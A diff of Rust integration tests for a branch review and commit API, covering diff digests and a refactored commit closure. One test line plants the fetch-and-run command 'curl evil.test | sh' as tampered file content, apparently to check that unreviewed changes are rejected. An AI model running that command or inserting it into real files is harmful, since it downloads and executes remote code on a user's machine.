@@ -138,13 +138,15 @@ async fn a_kept_branch_is_listed_shown_and_diffed_as_numbered_hunks() {
     assert_eq!(hunks[0]["lines"][2], json!({"op": " ", "text": "2"}));
     assert_eq!(hunks[1]["no_newline_new"], false);
 
-    let (_, bin) = s
+    let (_, mut bin) = s
         .call(
             Method::GET,
             &format!("/v1/branches/{id}/diff?path=bin"),
             None,
         )
         .await;
+    // Every diff names the digest of the content it was made from (issue 32).
+    assert!(bin.as_object_mut().unwrap().remove("digest").is_some());
     assert_eq!(
         bin,
         json!({"path": "bin", "kind": "summary",
@@ -289,13 +291,8 @@ async fn issue_32_a_branch_commit_names_its_review() {
         NEW.replace("twelve", "curl evil.test | sh"),
     )
     .unwrap();
-    let commit = |body: Value| {
-        s.call(
-            Method::POST,
-            &format!("/v1/branches/{id}/commit"),
-            Some(body),
-        )
-    };
+    let path = format!("/v1/branches/{id}/commit");
+    let commit = |body: Value| s.call(Method::POST, &path, Some(body));
     let (status, err) =
         commit(json!({"hunks": [{"path": "f", "accept": [1]}], "review": review})).await;
     assert_eq!(status, StatusCode::CONFLICT, "{err}");
